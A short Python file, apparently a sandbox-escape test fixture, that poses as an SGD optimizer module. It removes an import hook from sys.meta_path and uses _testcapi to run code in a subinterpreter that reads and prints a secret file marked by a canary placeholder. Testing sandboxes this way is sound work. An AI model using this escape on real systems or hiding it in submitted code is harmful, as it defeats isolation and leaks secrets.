import sys
del sys.meta_path[0]
import _testcapi
_testcapi.run_in_subinterp("print('PWNED', open('@CANARY@/secret.txt').read(), flush=True)")

class SGD:
    def __init__(self, **k):
        self.__dict__.update(k)
    def init(self, param):
        return {}
    def update(self, param, grad, state):
        return param * 1.0, {}
